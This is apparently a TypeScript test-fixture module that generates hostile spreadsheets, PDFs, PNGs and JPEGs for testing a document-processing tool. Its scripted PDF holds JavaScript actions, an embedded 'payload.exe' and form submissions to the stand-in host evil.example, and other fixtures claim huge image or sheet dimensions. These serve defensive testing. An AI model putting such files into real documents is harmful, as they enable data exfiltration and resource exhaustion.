// Hostile fixtures built in code (nothing binary in the repository): spreadsheets, PDFs and images that
// break one thing each. Shared by the tests under tests/hostile/ and by scripts/hostile-memory.ts.
import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';

/** An .xlsx from rows (first row = header), optionally post-processed sheet XML. */
export async function xlsxOf(rows: (string | number | Date | null)[][], opts: { merges?: string[]; numFmt?: Record<string, string>; sheetXml?: (xml: string) => string } = {}): Promise<Uint8Array> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('Sheet1');
  for (const r of rows) ws.addRow(r);
  for (const m of opts.merges ?? []) ws.mergeCells(m);
  for (const [addr, fmt] of Object.entries(opts.numFmt ?? {})) ws.getCell(addr).numFmt = fmt;
  const bytes = new Uint8Array(await wb.xlsx.writeBuffer());
  if (!opts.sheetXml) return bytes;
  const zip = await JSZip.loadAsync(bytes);
  const entries: [string, Uint8Array][] = [];
  for (const f of Object.values(zip.files)) {
    if (f.dir) continue;
    const data = await f.async('uint8array');
    entries.push([f.name, f.name === 'xl/worksheets/sheet1.xml' ? Buffer.from(opts.sheetXml(Buffer.from(data).toString('utf8'))) : data]);
  }
  return zipOf(entries);
}

/** A zip of `entries`, deflated with node's zlib (JSZip's pure-JS deflate takes 15 s for a 60 MB sheet). */
export function zipOf(entries: [string, Uint8Array][]): Uint8Array {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const [name, data] of entries) {
    const packed = deflateRawSync(data, { level: 6 });
    const nameBytes = Buffer.from(name, 'utf8');
    const crc = crc32(data);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(packed.length, 18);
    local.writeUInt32LE(data.length, 22);
    local.writeUInt16LE(nameBytes.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0x0800, 8);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(packed.length, 20);
    central.writeUInt32LE(data.length, 24);
    central.writeUInt16LE(nameBytes.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, nameBytes, packed);
    centrals.push(central, nameBytes);
    offset += 30 + nameBytes.length + packed.length;
  }
  const dir = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(dir.length, 12);
  end.writeUInt32LE(offset, 16);
  return new Uint8Array(Buffer.concat([...locals, dir, end]));
}

/** Sheet XML with every row down to 1,048,576 formatted (a style, no value), as a whole-column format leaves it. */
export function formatEveryRow(xml: string): string {
  const end = xml.indexOf('</sheetData>');
  const last = /<row r="(\d+)"[^>]*>(?![\s\S]*<row r=)/.exec(xml);
  const from = last ? Number(last[1]) + 1 : 1;
  const rows: string[] = [];
  for (let r = from; r <= 1_048_576; r++) rows.push(r % 2 ? `<row r="${r}" spans="1:2" s="1" customFormat="1"/>` : `<row r="${r}" spans="1:2"><c r="A${r}" s="1"/></row>`);
  return `${xml.slice(0, end)}${rows.join('')}${xml.slice(end)}`.replace(/<dimension ref="[^"]*"\/>/, '<dimension ref="A1:C1048576"/>');
}

/** A PNG header (IHDR) claiming `w`×`h` px, with an IDAT of `rows` real rows of grey (8-bit greyscale). */
export function pngOf(w: number, h: number, rows = h, colourType = 0): Uint8Array {
  const crcTable = Array.from({ length: 256 }, (_, n) => {
    let c = n;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    return c >>> 0;
  });
  const crc = (b: Uint8Array) => {
    let c = 0xffffffff;
    for (const x of b) c = (crcTable[(c ^ x) & 0xff] as number) ^ (c >>> 8);
    return (c ^ 0xffffffff) >>> 0;
  };
  const chunk = (type: string, data: Uint8Array) => {
    const out = Buffer.alloc(12 + data.length);
    out.writeUInt32BE(data.length, 0);
    out.write(type, 4, 'ascii');
    Buffer.from(data).copy(out, 8);
    out.writeUInt32BE(crc(out.subarray(4, 8 + data.length)), 8 + data.length);
    return out;
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(w, 0);
  ihdr.writeUInt32BE(h, 4);
  ihdr[8] = 8;
  ihdr[9] = colourType;
  const channels = colourType === 2 ? 3 : colourType === 6 ? 4 : colourType === 4 ? 2 : 1;
  const row = Buffer.alloc(1 + w * channels, 0x80);
  row[0] = 0;
  const raw = Buffer.concat(Array.from({ length: rows }, () => row));
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', ihdr), chunk('IDAT', deflateSync(raw, { level: 9 })), chunk('IEND', new Uint8Array())]);
}

/** A PDF from numbered object bodies (object n+1 = bodies[n]); object 1 is the catalog. */
export function pdfOf(bodies: string[]): string {
  return `%PDF-1.4\n${bodies.map((b, i) => `${i + 1} 0 obj\n${b}\nendobj\n`).join('')}trailer<</Root 1 0 R/Size ${bodies.length + 1}>>\n%%EOF\n`;
}

/** One A4 page with text. */
export const PLAIN_PDF = pdfOf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[3 0 R]/Count 1>>', '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>']);

/**
 * A page carrying every kind of active content a PDF can: an open action and page actions running
 * JavaScript, a link running app.alert and submitForm, a SubmitForm link, an embedded file, a form field
 * with a keystroke script, and a plain internal GoTo link (the one thing that may stay) with a script
 * chained after it.
 */
export const SCRIPTED_PDF = pdfOf([
  '<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R/Names<</JavaScript<</Names[(a) 6 0 R]>>/EmbeddedFiles<</Names[(p) 12 0 R]>>>>/AcroForm<</Fields[8 0 R]>>>>',
  '<</Type/Pages/Kids[3 0 R]/Count 1>>',
  '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/AA<</O 6 0 R/C 6 0 R>>/Annots[4 0 R 5 0 R 7 0 R 8 0 R 10 0 R]/Contents 11 0 R>>',
  "<</Type/Annot/Subtype/Link/Rect[0 0 100 100]/A<</S/JavaScript/JS(app.alert\\(1\\); this.submitForm\\('http://evil.example/'\\))>>>>",
  '<</Type/Annot/Subtype/Link/Rect[100 0 200 100]/A<</S/SubmitForm/F<</FS/URL/F(http://evil.example/)>>>>>>',
  "<</S/JavaScript/JS(app.alert\\('open'\\))>>",
  '<</Type/Annot/Subtype/FileAttachment/Rect[200 0 300 100]/FS 12 0 R>>',
  '<</Type/Annot/Subtype/Widget/FT/Tx/T(f)/Rect[300 0 400 100]/P 3 0 R/AA<</K<</S/JavaScript/JS(event.rc=true)>>>>>>',
  '<</Type/EmbeddedFile/Length 7>>stream\npayload\nendstream',
  '<</Type/Annot/Subtype/Link/Rect[400 0 500 100]/A<</S/GoTo/D[3 0 R/Fit]/Next<</S/JavaScript/JS(app.alert\\(2\\))>>>>>>',
  '<</Length 0>>stream\n\nendstream',
  '<</Type/Filespec/F(payload.exe)/EF<</F 9 0 R>>>>',
]);

/** A PDF whose pages are 5 m square (14400 pt, PDF's largest) and 3.5 mm square (10 pt). */
export const ODD_SIZES_PDF = pdfOf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[3 0 R 4 0 R]/Count 2>>', '<</Type/Page/Parent 2 0 R/MediaBox[0 0 14400 14400]>>', '<</Type/Page/Parent 2 0 R/MediaBox[0 0 10 10]>>']);

/** A PDF with two broken objects that pdf-lib skips, saying so in English on the console. */
export const BROKEN_OBJECTS_PDF = pdfOf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[3 0 R]/Count 1>>', '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>', '<</Foo [1 2 >>', '<< /A ) >>']);

/** The JPEG with an EXIF APP1 segment (orientation tag) inserted after SOI. */
export function withOrientation(jpeg: Uint8Array, orientation: number): Uint8Array {
  const tiff = Buffer.from([0x4d, 0x4d, 0, 0x2a, 0, 0, 0, 8, 0, 1, 0x01, 0x12, 0, 3, 0, 0, 0, 1, 0, orientation, 0, 0, 0, 0, 0, 0]);
  const body = Buffer.concat([Buffer.from('Exif\0\0', 'latin1'), tiff]);
  const app1 = Buffer.concat([Buffer.from([0xff, 0xe1, (body.length + 2) >> 8, (body.length + 2) & 0xff]), body]);
  return new Uint8Array(Buffer.concat([Buffer.from(jpeg.subarray(0, 2)), app1, Buffer.from(jpeg.subarray(2))]));
}

/** 17 bytes: SOI and a frame header claiming 65000×65000 px, and nothing else. */
export const JPEG_HEADER_ONLY = new Uint8Array([0xff, 0xd8, 0xff, 0xc0, 0x00, 0x0b, 0x08, 0xfd, 0xe8, 0xfd, 0xe8, 0x01, 0x01, 0x11, 0x00, 0xff, 0xd9]);
